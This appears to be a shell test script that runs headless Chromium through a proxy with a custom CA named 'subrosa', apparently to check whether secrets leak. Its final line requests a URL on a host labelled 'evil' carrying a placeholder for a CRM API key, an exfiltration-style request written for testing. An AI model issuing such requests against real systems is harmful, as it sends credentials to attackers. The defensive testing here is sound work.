# Chromium, headless: it reads no variables but is told of proxy and CA, and sends no credentials to a
# proxy by itself. The page does the rest.
set -eu
base=$1 evil=$2 proxy=$4
export HOME=$PWD/home
mkdir -p "$HOME/.pki/nssdb"
certutil -d "sql:$HOME/.pki/nssdb" -N --empty-password
certutil -d "sql:$HOME/.pki/nssdb" -A -t C,, -n subrosa -i "$NODE_EXTRA_CA_CERTS"
browse() {
    chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-dev-shm-usage \
        "--user-data-dir=$HOME/profile" "--proxy-server=http://$proxy" --dump-dom "$1" 2>>errors
}
browse "$base/page" | tee page
grep -q 'all is sent' page || { cat errors; exit 1; }
browse "$evil/?k=%7Bsecrets.crm.apiKey%7D"
